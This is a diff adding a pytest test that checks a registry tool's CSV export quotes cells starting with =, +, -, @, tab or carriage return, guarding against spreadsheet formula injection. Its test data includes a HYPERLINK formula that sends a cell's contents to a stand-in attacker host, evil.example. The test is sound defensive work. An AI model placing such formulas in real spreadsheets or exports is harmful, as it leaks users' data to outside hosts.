@@ -168,3 +168,34 @@ def test_export_writes_one_csv_per_table_without_secrets(
         assert json.loads(next(csv.DictReader(f))["levels"]) == ["L2"]
     users = (out / "users.csv").read_text(encoding="utf-8")
     assert "a@example.org" in users and "argon2" not in users and "password" not in users
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+1", "-2+3", "@SUM(1+1)"]
+
+
+def test_export_makes_cells_that_a_spreadsheet_would_run_inert(
+    cli_env, registry, tmp_path, make_case
+):
+    """OWASP CSV injection: every text cell starting =, +, -, @, tab or CR gets a quote in front
+    (written verbatim before the fix); the JSON of the API keeps the value as it was given."""
+    lines = [
+        make_case(
+            f"F-{i}",
+            name=text,
+            events=[{"type": "dxa", "status": "done", "date": "2026-04-01", "note": text}],
+        )
+        for i, text in enumerate([*FORMULAS, "\tTabbed", "\rReturn"])
+    ]
+    assert run(["registry", "import", write_jsonl(tmp_path, lines)]) == 0
+    out = tmp_path / "export"
+    assert run(["registry", "export", str(out)]) == 0
+    with (out / "cases.csv").open(encoding="utf-8", newline="") as f:
+        names = [r["name"] for r in csv.DictReader(f)]
+    with (out / "events.csv").open(encoding="utf-8", newline="") as f:
+        notes = [r["note"] for r in csv.DictReader(f)]
+    quoted = ["'" + t for t in FORMULAS]
+    assert names[: len(FORMULAS)] == quoted  # names are stripped of spaces on the way in
+    assert notes == [*quoted, "Tabbed", "Return"]  # a leading tab or CR is stripped on import
+    with registry.transaction() as session:
+        stored = session.scalars(sa.select(Case.name).order_by(Case.id)).all()
+    assert stored[: len(FORMULAS)] == FORMULAS  # the database keeps the value as it is
